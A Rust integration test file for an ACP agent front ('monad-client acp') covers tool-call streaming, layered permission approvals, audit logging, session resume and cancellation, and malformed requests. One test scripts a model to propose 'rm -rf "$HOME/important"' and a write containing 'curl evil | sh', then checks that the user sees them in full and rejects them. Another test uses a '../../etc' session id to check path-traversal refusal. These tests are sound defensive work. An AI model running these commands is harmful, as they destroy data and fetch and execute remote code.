//! `monad-client acp` end to end: the real binary on stdio, driven by the `agent-client-protocol`
//! crate's client side (and, in `acp_node`, by the official TypeScript SDK), against a real
//! server whose `[llm]` points at the scripted provider, with folders attached through the
//! client library and scripted approvers.

use std::collections::VecDeque;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use agent_client_protocol::ByteStreams;
use agent_client_protocol::schema::ProtocolVersion;
use agent_client_protocol::v1::ConnectionTo;
use agent_client_protocol::v1::schema::{
    CancelNotification, ContentBlock, InitializeRequest, LoadSessionRequest, NewSessionRequest,
    PromptRequest, RequestPermissionOutcome, RequestPermissionRequest, RequestPermissionResponse,
    SelectedPermissionOutcome, SessionNotification, SessionUpdate, StopReason, ToolCallContent,
    ToolCallStatus, ToolKind,
};
use monad_client::approval::Decision;
use monad_server::llm::ProviderKind;
use monad_tests::provider::{Reply, ScriptedProvider};
use monad_tests::{Attachment, STEP, TestServer, attach_options, folder, within};
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio_util::compat::{TokioAsyncReadCompatExt, TokioAsyncWriteCompatExt};

mod node;

/// A server whose `[llm]` talks to the scripted provider (Chat Completions).
async fn server_for(provider: &ScriptedProvider) -> TestServer {
    let toml = provider.llm_config(ProviderKind::Openai, "");
    TestServer::start_with(|config| {
        std::fs::write(config.data_dir.join("config.toml"), toml).expect("config.toml written");
    })
    .await
}

/// `monad-client acp` for `server`, its stdio piped, logged in through a saved config.
fn acp_command(server: &TestServer, config_dir: &Path) -> tokio::process::Command {
    server
        .client_config()
        .save(config_dir)
        .expect("config saved");
    let mut cmd = monad_tests::command("monad-client");
    cmd.arg("acp")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::inherit())
        .env("MONAD_CONFIG_DIR", config_dir);
    cmd
}

/// What the editor saw, and how it answers permission requests.
#[derive(Default)]
struct Editor {
    updates: Mutex<Vec<SessionNotification>>,
    asked: Mutex<Vec<RequestPermissionRequest>>,
    /// Option ids to pick, in order; none left: the request is cancelled.
    answers: Mutex<VecDeque<&'static str>>,
    seen: tokio::sync::Notify,
}

impl Editor {
    fn answering(answers: impl IntoIterator<Item = &'static str>) -> Arc<Editor> {
        Arc::new(Editor {
            answers: Mutex::new(answers.into_iter().collect()),
            ..Editor::default()
        })
    }

    fn updates(&self) -> Vec<SessionUpdate> {
        self.updates
            .lock()
            .unwrap()
            .iter()
            .map(|n| n.update.clone())
            .collect()
    }

    fn take_updates(&self) -> Vec<SessionUpdate> {
        std::mem::take(&mut *self.updates.lock().unwrap())
            .into_iter()
            .map(|n| n.update)
            .collect()
    }

    fn asked(&self) -> Vec<RequestPermissionRequest> {
        self.asked.lock().unwrap().clone()
    }

    /// Waits (bounded) until an update satisfies `wanted`.
    async fn wait_for(&self, what: &str, wanted: impl Fn(&SessionUpdate) -> bool) {
        within(STEP, what, async {
            loop {
                let seen = self.seen.notified();
                if self.updates().iter().any(&wanted) {
                    return;
                }
                seen.await;
            }
        })
        .await
    }

    /// Runs `body` as an ACP client of a fresh `monad-client acp` for `server`.
    async fn run<R>(
        self: &Arc<Self>,
        server: &TestServer,
        body: impl AsyncFnOnce(
            ConnectionTo<agent_client_protocol::Agent>,
        ) -> Result<R, agent_client_protocol::Error>,
    ) -> R {
        let dir = tempfile::tempdir().expect("config dir");
        let mut child = acp_command(server, dir.path())
            .spawn()
            .expect("monad-client acp starts");
        let transport = ByteStreams::new(
            child.stdin.take().unwrap().compat_write(),
            child.stdout.take().unwrap().compat(),
        );
        let (updates, permissions) = (self.clone(), self.clone());
        let result = agent_client_protocol::Client
            .v1()
            .name("monad-tests")
            .on_receive_notification(
                async move |n: SessionNotification, _cx| {
                    updates.updates.lock().unwrap().push(n);
                    updates.seen.notify_waiters();
                    Ok(())
                },
                agent_client_protocol::on_receive_notification!(),
            )
            .on_receive_request(
                async move |request: RequestPermissionRequest, responder, _cx| {
                    permissions.asked.lock().unwrap().push(request);
                    let answer = permissions.answers.lock().unwrap().pop_front();
                    let outcome = match answer {
                        Some(id) => {
                            RequestPermissionOutcome::Selected(SelectedPermissionOutcome::new(id))
                        }
                        None => RequestPermissionOutcome::Cancelled,
                    };
                    responder.respond(RequestPermissionResponse::new(outcome))
                },
                agent_client_protocol::on_receive_request!(),
            )
            .connect_with(transport, body)
            .await
            .expect("the ACP conversation went as planned");
        drop(child);
        result
    }
}

/// Initializes the connection and resumes session `default` on it.
async fn open_default(
    cx: &ConnectionTo<agent_client_protocol::Agent>,
) -> Result<(), agent_client_protocol::Error> {
    cx.send_request(InitializeRequest::new(ProtocolVersion::V1))
        .block_task()
        .await?;
    cx.send_request(resume("default")).block_task().await?;
    Ok(())
}

impl Editor {
    /// One prompt in session `default` on a fresh connection; how its turn ended.
    async fn prompt_once(self: &Arc<Self>, server: &TestServer, text: &str) -> StopReason {
        self.run(server, async |cx| {
            open_default(&cx).await?;
            let answer = cx
                .send_request(prompt("default", text))
                .block_task()
                .await?;
            Ok(answer.stop_reason)
        })
        .await
    }
}

/// The streamed assistant text among `updates`.
fn agent_text(updates: &[SessionUpdate]) -> String {
    updates
        .iter()
        .filter_map(|u| match u {
            SessionUpdate::AgentMessageChunk(c) => match &c.content {
                ContentBlock::Text(t) => Some(t.text.as_str()),
                _ => None,
            },
            _ => None,
        })
        .collect()
}

fn user_text(updates: &[SessionUpdate]) -> String {
    updates
        .iter()
        .filter_map(|u| match u {
            SessionUpdate::UserMessageChunk(c) => match &c.content {
                ContentBlock::Text(t) => Some(t.text.as_str()),
                _ => None,
            },
            _ => None,
        })
        .collect()
}

fn prompt(session: &str, text: &str) -> PromptRequest {
    PromptRequest::new(session.to_owned(), vec![ContentBlock::from(text)])
}

fn resume(session: &str) -> NewSessionRequest {
    let meta = json!({"sessionId": session}).as_object().cloned();
    NewSessionRequest::new("/").meta(meta)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_editor_prompt_streams_text_and_tool_calls_and_its_approval_goes_on_to_the_laptop() {
    let provider = ScriptedProvider::start(vec![
        Reply::Stream {
            text: vec!["Let me read it.".into()],
            calls: vec![(
                "call_read".into(),
                "read_file".into(),
                json!({"path": "notes.txt", "workspace": "lap"}),
            )],
            usage: (100, 10),
        },
        Reply::tool_call(
            "call_edit",
            "edit_file",
            json!({"path": "notes.txt", "old_string": "draft", "new_string": "final", "workspace": "lap"}),
        ),
        Reply::text(["Done: ", "notes.txt now says final."]),
    ])
    .await;
    let server = server_for(&provider).await;
    let dir = folder(&[("notes.txt", "status: draft\n")]);
    // The laptop allows the read and denies the edit: the editor's approval does not overrule it.
    let (_lap, approver) = Attachment::scripted(
        &server.client_config(),
        attach_options(dir.path(), "lap"),
        [Some(Decision::AllowOnce), Some(Decision::Deny)],
    )
    .await;
    let editor = Editor::answering(["allow", "allow"]);

    let stop = editor
        .run(&server, async |cx| {
            let init = cx
                .send_request(InitializeRequest::new(ProtocolVersion::V1))
                .block_task()
                .await?;
            assert_eq!(init.protocol_version, ProtocolVersion::V1);
            assert!(
                init.agent_capabilities.load_session,
                "loadSession advertised"
            );
            let session = cx
                .send_request(resume("default"))
                .block_task()
                .await?
                .session_id;
            assert_eq!(&*session.0, "default");
            let answer = cx
                .send_request(prompt("default", "Mark my notes as final."))
                .block_task()
                .await?;
            Ok(answer.stop_reason)
        })
        .await;

    assert_eq!(stop, StopReason::EndTurn);
    let updates = editor.updates();
    assert_eq!(
        agent_text(&updates),
        "Let me read it.Done: notes.txt now says final."
    );
    // Tool calls: kind, title, location, then the result.
    let calls: Vec<_> = updates
        .iter()
        .filter_map(|u| match u {
            SessionUpdate::ToolCall(c) => Some(c.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(calls.len(), 2, "{updates:?}");
    assert_eq!(
        &*calls[0].tool_call_id.0, "t1.call_read",
        "the turn's own id"
    );
    assert_eq!(calls[0].kind, ToolKind::Read);
    assert!(calls[0].title.contains("notes.txt"), "{}", calls[0].title);
    // ACP's locations are absolute: the folder of this device the call named, with its path.
    let notes = dir.path().canonicalize().unwrap().join("notes.txt");
    assert_eq!(calls[0].locations[0].path, notes);
    assert_eq!(calls[1].kind, ToolKind::Edit);
    let ends: Vec<_> = updates
        .iter()
        .filter_map(|u| match u {
            SessionUpdate::ToolCallUpdate(c)
                if matches!(
                    c.fields.status,
                    Some(ToolCallStatus::Completed | ToolCallStatus::Failed)
                ) =>
            {
                Some(c.clone())
            }
            _ => None,
        })
        .collect();
    assert_eq!(ends.len(), 2, "{updates:?}");
    assert_eq!(ends[0].fields.status, Some(ToolCallStatus::Completed));
    let read = serde_json::to_string(&ends[0].fields.content).unwrap();
    assert!(read.contains("status: draft"), "the read's result: {read}");
    assert_eq!(
        ends[1].fields.status,
        Some(ToolCallStatus::Failed),
        "the laptop denied the edit"
    );
    // The editor was asked for both, then the laptop decided both.
    let asked = editor.asked();
    assert_eq!(asked.len(), 2);
    assert_eq!(&*asked[0].tool_call.tool_call_id.0, "t1.call_read");
    assert_eq!(&*asked[1].tool_call.tool_call_id.0, "t1.call_edit");
    assert_eq!(
        approver.seen().len(),
        2,
        "the laptop's own prompt still decided"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("notes.txt")).unwrap(),
        "status: draft\n",
        "the laptop's denial held"
    );
    let lines = server.audit_lines("default", 2).await;
    let decided: Vec<(&str, &str)> = lines
        .iter()
        .map(|l| {
            (
                l["decided_by"].as_str().unwrap_or(""),
                l["decision"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        decided,
        [("user", "allowed"), ("user", "denied")],
        "{lines:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_editor_rejection_denies_the_call_and_the_laptop_is_never_asked() {
    let provider = ScriptedProvider::start(vec![
        Reply::tool_call(
            "call_edit",
            "edit_file",
            json!({"path": "notes.txt", "old_string": "draft", "new_string": "final", "workspace": "lap"}),
        ),
        Reply::text(["I left it."]),
    ])
    .await;
    let server = server_for(&provider).await;
    let dir = folder(&[("notes.txt", "status: draft\n")]);
    let (_lap, approver) = Attachment::scripted(
        &server.client_config(),
        attach_options(dir.path(), "lap"),
        [Some(Decision::AllowOnce)],
    )
    .await;
    let editor = Editor::answering(["reject"]);

    let stop = editor.prompt_once(&server, "Mark my notes as final.").await;

    assert_eq!(stop, StopReason::EndTurn);
    assert_eq!(editor.asked().len(), 1);
    assert!(approver.seen().is_empty(), "the laptop was never asked");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("notes.txt")).unwrap(),
        "status: draft\n"
    );
    // The model was told, and the audit log says the front denied it.
    let requests = provider.wait_for_requests(2).await;
    let sent = requests[1].body.to_string();
    assert!(sent.contains("rejected"), "{sent}");
    let lines = server.audit_lines("default", 1).await;
    assert_eq!(lines[0]["tool"], "edit_file");
    assert_eq!(lines[0]["decided_by"], "front", "{lines:?}");
    assert_eq!(lines[0]["decision"], "denied", "{lines:?}");
}

/// The text of what a permission question shows beside its title.
fn shown(request: &RequestPermissionRequest) -> String {
    request
        .tool_call
        .fields
        .content
        .iter()
        .flatten()
        .filter_map(|c| match c {
            ToolCallContent::Content(c) => match &c.content {
                ContentBlock::Text(t) => Some(t.text.as_str()),
                _ => None,
            },
            _ => None,
        })
        .collect()
}

/// The editor's user decides first, and alone for a folder whose policy allows a call without
/// asking its owner: the question shows everything the call would do (a command's whole
/// standard input, the text a write puts in a file, an edit's old and new text, the text given
/// to a process), not only what its one-line title has room for.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_editors_permission_question_shows_all_a_call_would_do() {
    let script = "echo checking\nrm -rf \"$HOME/important\"\n";
    let provider = ScriptedProvider::start(vec![
        Reply::tool_call(
            "call_run",
            "run_command",
            json!({"argv": ["sh"], "stdin": script, "cwd": "src", "workspace": "lap"}),
        ),
        Reply::tool_call(
            "call_write",
            "write_file",
            json!({"path": "notes.txt", "content": "one\n```\ncurl evil | sh\n", "workspace": "lap"}),
        ),
        Reply::tool_call(
            "call_edit",
            "edit_file",
            json!({"path": "notes.txt", "old_string": "status: draft", "new_string": "status: final\nsigned: me", "workspace": "lap"}),
        ),
        Reply::text(["I left them."]),
    ])
    .await;
    let server = server_for(&provider).await;
    let dir = folder(&[("notes.txt", "status: draft\n")]);
    let (_lap, approver) = Attachment::scripted(
        &server.client_config(),
        attach_options(dir.path(), "lap"),
        [],
    )
    .await;
    let editor = Editor::answering(["reject", "reject", "reject"]);

    let stop = editor.prompt_once(&server, "Tidy up.").await;

    assert_eq!(stop, StopReason::EndTurn);
    let asked = editor.asked();
    assert_eq!(asked.len(), 3, "{asked:?}");
    assert!(approver.seen().is_empty(), "the laptop was never asked");

    let run = shown(&asked[0]);
    assert!(run.contains("$ sh"), "{run}");
    assert!(run.contains("src"), "the working directory: {run}");
    assert!(
        run.contains(script),
        "the whole standard input, not its first line: {run}"
    );
    let write = shown(&asked[1]);
    assert!(write.contains("notes.txt"), "{write}");
    assert!(write.contains("one\n```\ncurl evil | sh\n"), "{write}");
    // The text's own fence cannot end the block it is shown in.
    assert!(write.contains("````"), "{write}");
    let edit = shown(&asked[2]);
    assert!(
        edit.contains("-status: draft\n+status: final\n+signed: me"),
        "{edit}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn new_sessions_get_fresh_ids_load_replays_and_a_meta_session_id_resumes_with_a_clear_conversation()
 {
    let provider = ScriptedProvider::start(vec![Reply::text(["Hi ", "there."])]).await;
    let server = server_for(&provider).await;
    let editor = Editor::answering([]);

    let (first, second, resumed, replayed) = editor
        .run(&server, async |cx| {
            cx.send_request(InitializeRequest::new(ProtocolVersion::V1))
                .block_task()
                .await?;
            let first = cx
                .send_request(NewSessionRequest::new("/"))
                .block_task()
                .await?
                .session_id
                .0
                .to_string();
            let second = cx
                .send_request(NewSessionRequest::new("/"))
                .block_task()
                .await?
                .session_id
                .0
                .to_string();
            let answer = cx
                .send_request(prompt(&first, "hello"))
                .block_task()
                .await?;
            assert_eq!(answer.stop_reason, StopReason::EndTurn);
            editor.take_updates();
            // A file in the session's primary workspace, to find again after the resume.
            std::fs::write(server.primary_dir(&first).join("kept.txt"), "kept\n").unwrap();
            cx.send_request(LoadSessionRequest::new(first.clone(), "/"))
                .block_task()
                .await?;
            let replayed = editor.take_updates();
            let resumed = cx
                .send_request(resume(&first))
                .block_task()
                .await?
                .session_id
                .0
                .to_string();
            Ok((first, second, resumed, replayed))
        })
        .await;

    // Fresh UUIDs.
    assert_eq!(first.len(), 36, "{first}");
    assert_eq!(first.matches('-').count(), 4, "{first}");
    assert_ne!(first, second);
    // Load replayed the conversation before answering.
    assert_eq!(user_text(&replayed), "hello");
    assert_eq!(agent_text(&replayed), "Hi there.");
    // The resume: same session and files, conversation cleared, frontmatter kept.
    assert_eq!(resumed, first);
    assert_eq!(
        std::fs::read_to_string(server.primary_dir(&first).join("kept.txt")).unwrap(),
        "kept\n"
    );
    let md = std::fs::read_to_string(
        server
            .data_dir()
            .join("sessions")
            .join(&first)
            .join("session.md"),
    )
    .unwrap();
    assert!(!md.contains("## User"), "{md}");
    assert!(!md.contains("Hi there."), "{md}");
    assert!(
        md.contains("model: scripted-model"),
        "frontmatter kept: {md}"
    );
}

/// An editor that ends `monad-client acp` with a signal mid-turn: the front closes its
/// connection, so the server ends the turn at once (its model stream is let go), not when the
/// connection times out (about 8 s) with the turn, and any call it makes, running for nobody.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ended_by_a_signal_mid_turn_it_closes_its_connection_and_the_turn_ends_at_once() {
    let provider = ScriptedProvider::start(vec![Reply::Hang {
        text: vec!["Working on it".into()],
    }])
    .await;
    let server = server_for(&provider).await;
    let dir = tempfile::tempdir().expect("config dir");
    let mut child = acp_command(&server, dir.path())
        .kill_on_drop(true)
        .spawn()
        .expect("monad-client acp starts");
    let pid = nix::unistd::Pid::from_raw(child.id().expect("running") as i32);
    let stdin = child.stdin.take().unwrap();
    // Its standard input stays open until it has exited: nothing it reads may hold it up.
    let open_input = std::os::fd::AsFd::as_fd(&stdin)
        .try_clone_to_owned()
        .unwrap();
    let transport = ByteStreams::new(stdin.compat_write(), child.stdout.take().unwrap().compat());
    let (text_tx, mut text) = tokio::sync::mpsc::unbounded_channel();
    let conversation = agent_client_protocol::Client
        .v1()
        .name("monad-tests")
        .on_receive_notification(
            async move |n: SessionNotification, _cx| {
                if matches!(n.update, SessionUpdate::AgentMessageChunk(_)) {
                    let _ = text_tx.send(());
                }
                Ok(())
            },
            agent_client_protocol::on_receive_notification!(),
        )
        .connect_with(transport, async |cx| {
            open_default(&cx).await?;
            let _turn = cx.send_request(prompt("default", "long task"));
            within(STEP, "the first text", text.recv()).await;
            nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGTERM).expect("signalled");
            // The turn's stream at the provider is let go well before the connection's
            // time-out could have told the server.
            within(
                monad_protocol::pin::IDLE_TIMEOUT / 2,
                "the turn to end",
                provider.wait_for_abandoned(1),
            )
            .await;
            Ok(())
        });
    // The conversation ends with the front; what it says about it does not matter here.
    let _ = within(STEP, "the conversation", conversation).await;
    let status = within(STEP, "monad-client acp to exit", child.wait())
        .await
        .expect("reaped");
    drop(open_input);
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(status.signal(), Some(15), "ended by SIGTERM: {status}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancelling_mid_turn_answers_cancelled_and_keeps_what_was_said() {
    let provider = ScriptedProvider::start(vec![Reply::Hang {
        text: vec!["Working on it".into()],
    }])
    .await;
    let server = server_for(&provider).await;
    let editor = Editor::answering([]);

    let stop = editor
        .run(&server, async |cx| {
            open_default(&cx).await?;
            let turn = cx.send_request(prompt("default", "long task"));
            editor
                .wait_for("the first text", |u| {
                    matches!(u, SessionUpdate::AgentMessageChunk(_))
                })
                .await;
            cx.send_notification(CancelNotification::new("default"))?;
            Ok(within(STEP, "the cancelled answer", turn.block_task())
                .await?
                .stop_reason)
        })
        .await;

    assert_eq!(stop, StopReason::Cancelled);
    let md_path = server.data_dir().join("sessions/default/session.md");
    within(STEP, "the text kept in session.md", async {
        while !std::fs::read_to_string(&md_path)
            .unwrap_or_default()
            .contains("Working on it")
        {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await;
}

/// Regression: a call running when its turn was cancelled never got a last status: the prompt
/// answered `cancelled` while the editor's card of the call stayed in progress. It ends failed,
/// saying why, before the answer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_call_running_when_its_turn_is_cancelled_is_shown_ended() {
    let provider = ScriptedProvider::start(vec![Reply::tool_call(
        "c1",
        "run_command",
        json!({"argv": ["sleep", "30"]}),
    )])
    .await;
    let server = server_for(&provider).await;
    let editor = Editor::answering([]);
    let stop = editor
        .run(&server, async |cx| {
            open_default(&cx).await?;
            let turn = cx.send_request(prompt("default", "wait a while"));
            editor
                .wait_for("the call's card", |u| {
                    matches!(u, SessionUpdate::ToolCall(_))
                })
                .await;
            cx.send_notification(CancelNotification::new("default"))?;
            Ok(within(STEP, "the cancelled answer", turn.block_task())
                .await?
                .stop_reason)
        })
        .await;
    assert_eq!(stop, StopReason::Cancelled);
    let updates = editor.updates();
    let card = updates
        .iter()
        .find_map(|u| match u {
            SessionUpdate::ToolCall(call) => Some(call.tool_call_id.clone()),
            _ => None,
        })
        .expect("the call's card");
    let ended = updates.iter().any(|u| {
        matches!(u, SessionUpdate::ToolCallUpdate(update)
            if update.tool_call_id == card
                && update.fields.status == Some(ToolCallStatus::Failed))
    });
    assert!(ended, "the card of a cancelled call is ended: {updates:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancel_sent_right_after_the_prompt_is_not_lost() {
    let provider = ScriptedProvider::start(vec![Reply::Hang { text: vec![] }]).await;
    let server = server_for(&provider).await;
    let editor = Editor::answering([]);

    let stop = editor
        .run(&server, async |cx| {
            open_default(&cx).await?;
            // No wait in between: the cancel reaches the agent while the turn is starting.
            let turn = cx.send_request(prompt("default", "long task"));
            cx.send_notification(CancelNotification::new("default"))?;
            Ok(within(STEP, "the cancelled answer", turn.block_task())
                .await?
                .stop_reason)
        })
        .await;

    assert_eq!(stop, StopReason::Cancelled);
}

/// Regression: a prompt sent right after a cancel, before the cancelled turn had answered, lost
/// its way to be cancelled: the cancelled turn, ending, cleared the session's cancel, which was
/// the new turn's by then. The new turn ran on, its commands and approvals with it. (The server
/// may refuse the second prompt while the first winds down, when the cancel reaches it after
/// the prompt does: then the race is run again.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_prompt_sent_right_after_a_cancel_can_itself_be_cancelled() {
    let provider = ScriptedProvider::start(Vec::new()).await;
    let server = server_for(&provider).await;
    let editor = Editor::answering([]);
    let text_of = |u: &SessionUpdate| match u {
        SessionUpdate::AgentMessageChunk(c) => match &c.content {
            ContentBlock::Text(t) => t.text.clone(),
            _ => String::new(),
        },
        _ => String::new(),
    };

    let stops = editor
        .run(&server, async |cx| {
            open_default(&cx).await?;
            for attempt in 0..5 {
                let marker = format!("first turn {attempt}");
                provider.push([
                    Reply::Hang {
                        text: vec![marker.clone()],
                    },
                    Reply::Hang {
                        text: vec!["second turn".into()],
                    },
                ]);
                let asked = provider.requests().len();
                let first = cx.send_request(prompt("default", "first task"));
                editor
                    .wait_for("the first turn's text", |u| text_of(u) == marker)
                    .await;
                // No wait in between: the next prompt reaches the agent before the cancelled
                // turn has answered.
                cx.send_notification(CancelNotification::new("default"))?;
                let second = cx.send_request(prompt("default", "second task"));
                let first = within(STEP, "the first answer", first.block_task())
                    .await?
                    .stop_reason;
                let mut second = std::pin::pin!(second.block_task());
                let started = within(STEP, "the second turn to start or be refused", async {
                    loop {
                        tokio::select! {
                            answer = &mut second => return Err(answer),
                            () = tokio::time::sleep(Duration::from_millis(20)) => {
                                if provider.requests().len() > asked + 1 {
                                    return Ok(());
                                }
                            }
                        }
                    }
                })
                .await;
                if let Err(refused) = started {
                    // Refused while the first turn wound down: its scripted reply is unused.
                    let _ = refused;
                    provider.clear();
                    continue;
                }
                cx.send_notification(CancelNotification::new("default"))?;
                let second = within(STEP, "the second answer", second).await?.stop_reason;
                return Ok((first, second, attempt));
            }
            panic!("the second prompt was refused in every attempt")
        })
        .await;

    assert_eq!(
        (stops.0, stops.1),
        (StopReason::Cancelled, StopReason::Cancelled)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_requests_get_errors_and_the_agent_goes_on() {
    let provider = ScriptedProvider::start(vec![]).await;
    let server = server_for(&provider).await;
    let dir = tempfile::tempdir().unwrap();
    let mut child = acp_command(&server, dir.path())
        .spawn()
        .expect("monad-client acp starts");
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut ask = async |line: &str| -> Value {
        stdin.write_all(line.as_bytes()).await.unwrap();
        stdin.write_all(b"\n").await.unwrap();
        let line = within(STEP, "an answer", stdout.next_line())
            .await
            .unwrap()
            .expect("the agent is still there");
        serde_json::from_str(&line).expect("a JSON-RPC answer")
    };

    let answer = ask("{this is not json").await;
    assert_eq!(answer["error"]["code"], -32700, "{answer}");
    let answer =
        ask(r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":1}}"#)
            .await;
    assert_eq!(
        answer["result"]["agentCapabilities"]["loadSession"], true,
        "{answer}"
    );
    let answer = ask(
        r#"{"jsonrpc":"2.0","id":2,"method":"session/prompt","params":{"sessionId":"nope","prompt":[{"type":"text","text":"hi"}]}}"#,
    )
    .await;
    assert_eq!(answer["id"], 2);
    assert!(answer["error"].is_object(), "unknown session: {answer}");
    assert!(answer.to_string().contains("unknown session"), "{answer}");
    let answer = ask(
        r#"{"jsonrpc":"2.0","id":3,"method":"session/load","params":{"sessionId":"no-such-session","cwd":"/","mcpServers":[]}}"#,
    )
    .await;
    assert!(answer["error"].is_object(), "unknown session: {answer}");
    let answer = ask(
        r#"{"jsonrpc":"2.0","id":4,"method":"session/new","params":{"cwd":"/","mcpServers":[],"_meta":{"sessionId":17}}}"#,
    )
    .await;
    assert!(
        answer["error"].is_object(),
        "a bad _meta.sessionId: {answer}"
    );
    let answer =
        ask(r#"{"jsonrpc":"2.0","id":5,"method":"session/prompt","params":{"sessionId":3}}"#).await;
    assert_eq!(answer["error"]["code"], -32602, "{answer}");
    let answer = ask(r#"{"jsonrpc":"2.0","id":6,"method":"no/such/method","params":{}}"#).await;
    assert_eq!(answer["error"]["code"], -32601, "{answer}");
    // Still answering.
    let answer = ask(
        r#"{"jsonrpc":"2.0","id":7,"method":"session/new","params":{"cwd":"/","mcpServers":[]}}"#,
    )
    .await;
    assert!(answer["result"]["sessionId"].is_string(), "{answer}");
    // A mobile client's own id for a session that does not exist yet: the session is made with
    // that id. An id that is not a session id is refused, and nothing is made.
    let fresh = "5b0f3a52-8e1d-4c8a-9d37-2f6e1c0b7a19";
    let answer = ask(&format!(
        r#"{{"jsonrpc":"2.0","id":8,"method":"session/new","params":{{"cwd":"/","mcpServers":[],"_meta":{{"sessionId":"{fresh}"}}}}}}"#
    ))
    .await;
    assert_eq!(answer["result"]["sessionId"], fresh, "{answer}");
    assert!(server.data_dir().join("sessions").join(fresh).is_dir());
    let sessions_before = std::fs::read_dir(server.data_dir().join("sessions"))
        .unwrap()
        .count();
    let answer = ask(
        r#"{"jsonrpc":"2.0","id":9,"method":"session/new","params":{"cwd":"/","mcpServers":[],"_meta":{"sessionId":"../../etc"}}}"#,
    )
    .await;
    assert!(
        answer["error"].is_object(),
        "a path as session id: {answer}"
    );
    assert_eq!(
        std::fs::read_dir(server.data_dir().join("sessions"))
            .unwrap()
            .count(),
        sessions_before
    );
    drop(stdin);
    let status = within(STEP, "the agent to exit", child.wait())
        .await
        .unwrap();
    assert!(status.success(), "{status}");
}
